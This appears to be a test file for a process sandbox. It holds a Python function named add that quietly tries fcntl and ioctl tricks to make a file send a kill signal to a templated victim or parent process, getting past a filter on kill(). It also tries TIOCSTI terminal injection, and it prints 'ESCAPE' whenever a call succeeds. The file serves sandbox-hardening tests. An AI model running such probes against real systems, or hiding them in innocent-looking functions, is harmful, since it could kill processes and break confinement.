# expect: pass
# note: a file can be told to send signals to a process: past a filter on kill()
import ctypes
import fcntl
import os


def add(a, b):
    reading, writing = os.pipe()
    for name, command, value in (
        ("F_SETOWN", 8, int("@VICTIM@")),
        ("F_SETOWN", 8, os.getppid() or 1),
        ("F_SETSIG", 10, 9),
        ("F_SETOWN_EX", 15, b"\1\0\0\0" + int("@VICTIM@").to_bytes(4, "little")),
        ("F_SETLEASE", 1024, 0),
        ("F_NOTIFY", 1026, 0x80000002),
        ("F_SETPIPE_SZ", 1031, 1 << 20),
    ):
        try:
            fcntl.fcntl(reading, command, value)
            print("ESCAPE", name, value)
        except (OSError, OverflowError) as error:
            print(name, error)
    libc = ctypes.CDLL(None, use_errno=True)
    victim = ctypes.c_int(int("@VICTIM@"))
    for name, request in (("FIOSETOWN", 0x8901), ("SIOCSPGRP", 0x8902), ("FIOASYNC", 0x5452), ("TIOCSTI", 0x5412)):
        if libc.ioctl(reading, request, ctypes.byref(victim)) >= 0:
            print("ESCAPE", name)
    return a + b
